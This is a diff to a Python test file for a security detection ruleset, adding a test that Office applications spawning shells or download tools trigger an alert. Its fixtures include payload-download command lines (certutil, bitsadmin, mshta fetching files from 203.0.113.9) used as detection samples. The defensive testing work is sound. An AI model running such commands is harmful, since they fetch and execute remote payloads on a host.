@@ -104,7 +104,7 @@ def test_dga_rule_is_quiet_on_a_real_windows_capture(ruleset, shared_data: Path)
 # --- Windows --------------------------------------------------------------------------------------
 
 
-def process_4688(i: int, executable: str, command_line: str) -> str:
+def process_4688(i: int, executable: str, command_line: str, parent: str = "C:\\Windows\\System32\\cmd.exe") -> str:
     """A Security 4688 record as Winlogbeat ships it (the winlog-json collector's input)."""
     data = {
         "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1301",
@@ -116,7 +116,7 @@ def process_4688(i: int, executable: str, command_line: str) -> str:
         "TokenElevationType": "%%1938",
         "ProcessId": "0x1a2c",
         "CommandLine": command_line,
-        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
+        "ParentProcessName": parent,
         "MandatoryLabel": "S-1-16-8192",
     }
     record = {
@@ -623,3 +623,36 @@ def test_txt_tunnel_names_in_mixed_case(ruleset, tmp_path: Path) -> None:
     )
     hits = fired(ruleset, lines(tmp_path, "dns.log", text, "zeek"))
     assert hits.count("TXT Query For A Long Generated Name") == 2
+
+
+def test_office_children_from_onenote_and_download_tools(ruleset, tmp_path: Path) -> None:
+    """OneNote attachments replaced macro documents in 2023 phishing; certutil and bitsadmin fetch payloads."""
+    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
+    system32 = "C:\\Windows\\System32\\"
+    suspicious = [
+        (office + "ONENOTE.EXE", system32 + "cmd.exe", 'cmd.exe /c "C:\\Users\\jdoe\\AppData\\Local\\Temp\\inv.bat"'),
+        (
+            office + "EXCEL.EXE",
+            system32 + "certutil.exe",
+            "certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe",
+        ),
+        (
+            office + "WINWORD.EXE",
+            system32 + "bitsadmin.exe",
+            "bitsadmin /transfer j http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe",
+        ),
+        (office + "MSPUB.EXE", system32 + "mshta.exe", "mshta.exe http://203.0.113.9/x.hta"),
+    ]
+    normal = [
+        (office + "WINWORD.EXE", office + "EXCEL.EXE", '"EXCEL.EXE" /dde'),
+        (
+            office + "OUTLOOK.EXE",
+            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            "chrome.exe https://intranet.agency.gov/",
+        ),
+    ]
+    text = "".join(
+        process_4688(i, child, cmd, parent=parent) for i, (parent, child, cmd) in enumerate([*suspicious, *normal])
+    )
+    hits = fired(ruleset, lines(tmp_path, "sec.ndjson", text, "winlog-json"))
+    assert hits == ["Office Application Starts A Shell"] * len(suspicious)
